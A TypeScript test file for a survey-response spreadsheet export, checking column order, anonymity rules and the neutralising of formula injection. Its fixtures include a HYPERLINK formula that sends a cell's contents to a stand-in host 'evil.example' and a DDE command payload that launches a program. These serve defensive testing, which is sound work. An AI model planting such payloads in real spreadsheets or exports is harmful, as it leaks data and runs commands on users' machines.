import { describe, expect, it } from '@jest/globals';
import {
  STAKEHOLDER_GROUP_KEYS,
  compileQuestionnaire,
  eachIndicator,
  normaliseAnswers,
  validateCustomQuestions,
  type AnonymityMode,
  type CustomQuestion,
  type Indicator,
  type Locale,
  type StakeholderGroupKey,
} from '#domain';
import { startsLikeFormula } from '#domain/spreadsheet-cell';
import { socleCommun } from '../frameworks/default-frameworks.js';
import { SubmissionTable, isExportDate, questionOrder, type ExportCell, type ExportGroup, type ExportOptions, type SubmissionRecord } from './submission-table.js';

const socle = socleCommun();
const HOSTILE_TITLE = '=HYPERLINK("https://evil.example/?leak="&A2,"Cliquez ici")';

/** The organization's own questions: a hostile title on a quantity that may be negative, and a hostile choice label. */
function customQuestions(): CustomQuestion[] {
  const result = validateCustomQuestions(socle, [
    {
      dimensionKey: 'utilite_economique',
      indicator: {
        key: 'solde_tresorerie',
        title: { fr: '+Solde de trésorerie', en: '+Cash balance' },
        level: 'realisation',
        kind: 'quantity',
        quantity: { min: -1000, max: 1000, integer: false },
        scoring: { rule: 'none' },
        dontKnow: 'not_offered',
        questions: [{ key: 'q_solde_tresorerie', audiences: ['self_assessment', 'staff'], wording: { self_assessment: { fr: HOSTILE_TITLE }, staff: { fr: '-Votre solde ?' } }, required: false }],
      },
    },
    {
      dimensionKey: 'utilite_economique',
      indicator: {
        key: 'canal_prefere',
        title: { fr: 'Canal préféré', en: 'Preferred channel' },
        level: 'realisation',
        kind: 'single_choice',
        choices: [
          { value: 'formule', label: { fr: '@SUM(1+1)*cmd|" /C calc"!A0', en: '@SUM(1+1)' } },
          { value: 'courrier', label: { fr: 'Courrier', en: 'Mail' } },
        ],
        scoring: { rule: 'none' },
        dontKnow: 'excluded',
        questions: [{ key: 'q_canal_prefere', audiences: ['staff'], wording: { staff: { fr: 'Quel canal préférez-vous\u202f?', en: 'Which channel do you prefer?' } }, required: false }],
      },
    },
  ]);
  if (!result.ok) throw new Error(JSON.stringify(result.errors));
  return result.value;
}

const custom = customQuestions();
const framework = { content: socle, dimensionKeys: socle.dimensions.map((dimension) => dimension.key), customQuestions: custom };

function group(groupKey: StakeholderGroupKey, anonymity: AnonymityMode, locale: Locale = 'fr'): ExportGroup {
  const questionnaire = compileQuestionnaire({ version: { content: socle }, dimensionKeys: framework.dimensionKeys, customQuestions: custom, group: groupKey, locale });
  return { groupKey, anonymity, questionnaire };
}

const GROUPS = (locale: Locale = 'fr') => [group('staff', 'anonymous', locale), group('self_assessment', 'confidential', locale), group('board', 'named', locale)];
const LABELS: ExportOptions = { locale: 'fr', codes: false, includeExcluded: false };
const CODES: ExportOptions = { locale: 'en', codes: true, includeExcluded: false };

let sequence = 0;
function submission(groupKey: StakeholderGroupKey, data: Record<string, unknown>, extra: Partial<SubmissionRecord> = {}): SubmissionRecord {
  const questionnaire = group(groupKey, 'anonymous').questionnaire;
  const result = normaliseAnswers(questionnaire, data, { checkRequired: false });
  if (!result.ok) throw new Error(JSON.stringify(result.errors));
  sequence += 1;
  return {
    id: `00000000-0000-4000-8000-${String(sequence).padStart(12, '0')}`,
    groupKey,
    channel: 'shared',
    submittedAt: new Date('2026-05-12T14:37:21.123Z'),
    respondentName: null,
    excludedAt: null,
    exclusionReason: null,
    answers: result.answers,
    ...extra,
  };
}

function indicator(key: string): Indicator {
  return [...eachIndicator(socle)].find((item) => item.indicator.key === key)!.indicator;
}

function cellsByHeader(table: SubmissionTable, row: ExportCell[]): Record<string, ExportCell> {
  return Object.fromEntries(table.headers.map((header, index) => [header, row[index]]));
}

describe('SubmissionTable columns', () => {
  it('has one column per question of the exported groups, in questionnaire order, with its "pourquoi ?" column', () => {
    const groups = GROUPS();
    const table = new SubmissionTable(groups, framework, CODES);
    const keys = table.headers.slice(5);
    // q_reponse_besoins is asked of the three groups: one column, then its comment column.
    expect(keys.filter((key) => key === 'q_reponse_besoins')).toHaveLength(1);
    expect(keys[keys.indexOf('q_reponse_besoins') + 1]).toBe('q_reponse_besoins-Comment');
    const questionKeys = keys.filter((key) => !key.endsWith('-Comment'));
    const union = new Set(groups.flatMap((g) => g.questionnaire.questions.map((question) => question.key)));
    expect(new Set(questionKeys)).toEqual(union);
    expect(questionKeys).toHaveLength(union.size);
    for (const { questionnaire } of groups) {
      const own = questionnaire.questions.map((question) => question.key);
      expect(questionKeys.filter((key) => own.includes(key))).toEqual(own);
      for (const question of questionnaire.questions.filter((q) => q.why)) expect(keys).toContain(`${question.key}-Comment`);
    }
  });

  it('orders every group’s questions as its questionnaire does', () => {
    const order = questionOrder(framework);
    for (const groupKey of STAKEHOLDER_GROUP_KEYS) {
      const own = group(groupKey, 'anonymous').questionnaire.questions.map((question) => question.key);
      expect(order.filter((key) => own.includes(key))).toEqual(own);
    }
  });

  it('names the leading columns in the chosen language, or by code', () => {
    expect(new SubmissionTable(GROUPS(), framework, LABELS).headers.slice(0, 5)).toEqual([
      'Identifiant de la réponse',
      'Groupe',
      'Canal',
      'Envoyée le (UTC)',
      'Nom (groupe nominatif)',
    ]);
    expect(new SubmissionTable(GROUPS('en'), framework, { ...LABELS, locale: 'en' }).headers.slice(0, 5)).toEqual([
      'Submission ID',
      'Group',
      'Channel',
      'Submitted (UTC)',
      'Name (named group)',
    ]);
    expect(new SubmissionTable(GROUPS(), framework, { ...CODES, includeExcluded: true }).headers.slice(0, 7)).toEqual([
      'submission_id',
      'group',
      'channel',
      'submitted_at',
      'respondent_name',
      'excluded',
      'exclusion_reason',
    ]);
  });

  it('has no name column at all when no named group is exported', () => {
    const table = new SubmissionTable([group('staff', 'anonymous'), group('self_assessment', 'confidential')], framework, CODES);
    expect(table.headers).not.toContain('respondent_name');
    expect(table.headers[4]).toBe('q_emplois_etp');
  });

  it('titles question columns with the wording of the first group asking, in the chosen language', () => {
    const fr = new SubmissionTable(GROUPS(), framework, LABELS).headers;
    const staffWording = indicator('reponse_besoins').questions[0]!.wording;
    expect(fr).toContain(staffWording.self_assessment!.fr);
    expect(fr).toContain(`${staffWording.self_assessment!.fr} — Pourquoi\u202f?`);
    const en = new SubmissionTable(GROUPS('en'), framework, { ...LABELS, locale: 'en' }).headers;
    expect(en).toContain(staffWording.self_assessment!.en);
  });

  it('neutralises a hostile question title in the header, in labels and codes alike', () => {
    const table = new SubmissionTable(GROUPS(), framework, LABELS);
    expect(table.headers).toContain(`'${HOSTILE_TITLE}`);
    expect(table.headers.filter(startsLikeFormula)).toEqual([]);
    const sheet = table.questionSheet();
    for (const row of sheet.rows) for (const cell of row) if (typeof cell === 'string') expect(startsLikeFormula(cell)).toBe(false);
    expect(sheet.rows.find((row) => row[0] === 'q_solde_tresorerie')).toEqual([
      'q_solde_tresorerie',
      `'${HOSTILE_TITLE}`,
      'Auto-évaluation de la structure; Salarié·es',
      'solde_tresorerie',
      "'+Solde de trésorerie",
      'utilite_economique',
      socle.dimensions[0]!.title.fr,
      'nombre, -1000–1000',
      null,
    ]);
  });
});

describe('SubmissionTable rows', () => {
  const staffData = {
    q_reponse_besoins: 4,
    'q_reponse_besoins-Comment': '=1+1 parce que',
    q_mesures_accessibilite: ['langage_clair', 'tarifs'],
    q_objectifs_ecologiques: 'dont_know',
    q_recit_initiative: '-2 bénévoles\n@toutes et tous',
    q_solde_tresorerie: -12.5,
    q_canal_prefere: 'formule',
  };

  it('writes labels in the chosen language: choices, several choices joined, "Je ne sais pas", numbers as numbers', () => {
    const table = new SubmissionTable(GROUPS(), framework, LABELS);
    const row = cellsByHeader(table, table.row(submission('staff', staffData)));
    const header = (key: string) => table.headers[new SubmissionTable(GROUPS(), framework, CODES).headers.indexOf(key)]!;
    expect(row['Groupe']).toBe('Salarié·es');
    expect(row['Canal']).toBe('Lien partagé');
    expect(row[header('q_reponse_besoins')]).toBe(4);
    expect(row[header('q_reponse_besoins-Comment')]).toBe("'=1+1 parce que");
    const accessibility = indicator('mesures_accessibilite');
    const choice = (value: string) => (accessibility.kind === 'multiple_choice' ? accessibility.choices.find((c) => c.value === value)!.label.fr : '');
    // In the questionnaire's order of choices, whatever the order they were ticked in.
    expect(row[header('q_mesures_accessibilite')]).toBe(`${choice('tarifs')}; ${choice('langage_clair')}`);
    expect(row[header('q_objectifs_ecologiques')]).toBe('Je ne sais pas');
    expect(row[header('q_recit_initiative')]).toBe("'-2 bénévoles\n@toutes et tous");
    expect(row[header('q_solde_tresorerie')]).toBe(-12.5);
    expect(row[header('q_canal_prefere')]).toBe(`'@SUM(1+1)*cmd|" /C calc"!A0`);
    // Questions not asked of staff stay empty.
    expect(row[header('q_emplois_etp')]).toBeNull();
  });

  it('writes codes: choice values, dont_know, keys of groups and channels', () => {
    const table = new SubmissionTable(GROUPS(), framework, CODES);
    const row = cellsByHeader(table, table.row(submission('staff', staffData, { channel: 'kiosk' })));
    expect(row).toMatchObject({
      group: 'staff',
      channel: 'kiosk',
      q_reponse_besoins: 4,
      q_mesures_accessibilite: 'tarifs; langage_clair',
      q_objectifs_ecologiques: 'dont_know',
      q_solde_tresorerie: -12.5,
      q_canal_prefere: 'formule',
    });
  });

  it('gives anonymous groups the day only and no name; confidential groups the time but no name; named groups their name', () => {
    const table = new SubmissionTable(GROUPS(), framework, CODES);
    const anonymous = cellsByHeader(table, table.row(submission('staff', {}, { respondentName: 'Ne doit pas sortir' })));
    expect(anonymous['submitted_at']).toEqual({ date: new Date('2026-05-12T00:00:00Z'), dayOnly: true });
    expect(anonymous['respondent_name']).toBeNull();
    const confidential = cellsByHeader(table, table.row(submission('self_assessment', {}, { respondentName: 'Camille Durand' })));
    expect(confidential['submitted_at']).toEqual({ date: new Date('2026-05-12T14:37:21.123Z'), dayOnly: false });
    expect(confidential['respondent_name']).toBeNull();
    const named = cellsByHeader(table, table.row(submission('board', {}, { respondentName: '=Dominique' })));
    expect(named['respondent_name']).toBe("'=Dominique");
    // A submission of a group the export does not describe is treated as anonymous.
    const unknown = cellsByHeader(table, table.row(submission('partners', {}, { respondentName: 'X' })));
    expect(unknown['respondent_name']).toBeNull();
    expect(isExportDate(unknown['submitted_at']!) && unknown['submitted_at'].dayOnly).toBe(true);
  });

  it('marks excluded submissions and gives the reason, neutralised, when they are asked for', () => {
    const table = new SubmissionTable(GROUPS(), framework, { ...LABELS, includeExcluded: true });
    const excluded = cellsByHeader(table, table.row(submission('staff', {}, { excludedAt: new Date(), exclusionReason: '+doublon saisi deux fois' })));
    expect(excluded['Exclue']).toBe('Oui');
    expect(excluded['Motif d’exclusion']).toBe("'+doublon saisi deux fois");
    const kept = cellsByHeader(table, table.row(submission('staff', {})));
    expect(kept['Exclue']).toBe('Non');
    expect(kept['Motif d’exclusion']).toBeNull();
  });

  it('has as many cells as columns, and no text cell that starts like a formula', () => {
    const table = new SubmissionTable(GROUPS(), framework, LABELS);
    for (const record of [submission('staff', staffData), submission('board', {}, { respondentName: '@x' }), submission('self_assessment', {})]) {
      const row = table.row(record);
      expect(row).toHaveLength(table.columns.length);
      for (const cell of row) if (typeof cell === 'string') expect(startsLikeFormula(cell)).toBe(false);
    }
  });
});

describe('the Questions sheet', () => {
  it('lists each question column with its groups, indicator, dimension and possible answers', () => {
    const table = new SubmissionTable(GROUPS('en'), framework, { ...LABELS, locale: 'en' });
    const sheet = table.questionSheet();
    expect(sheet.columns.map((column) => column.header)).toEqual([
      'Key',
      'Question',
      'Groups asked',
      'Indicator key',
      'Indicator',
      'Dimension key',
      'Dimension',
      'Possible answers (code = label)',
      '“Why?” column',
    ]);
    expect(sheet.rows.map((row) => row[0])).toEqual(new SubmissionTable(GROUPS(), framework, CODES).headers.slice(5).filter((key) => !String(key).endsWith('-Comment')));
    const besoins = sheet.rows.find((row) => row[0] === 'q_reponse_besoins')!;
    expect(besoins[2]).toBe('Organization self-assessment; Staff; Board members');
    expect(besoins[7]).toBe('1 = Strongly disagree; 2 = Disagree; 3 = Neither agree nor disagree; 4 = Agree; 5 = Strongly agree; dont_know = Don’t know');
    expect(String(besoins[8])).toMatch(/ — Why\?$/);
    expect(sheet.rows.find((row) => row[0] === 'q_personnes_accueillies')![7]).toBe('whole number, at least 0');
  });
});
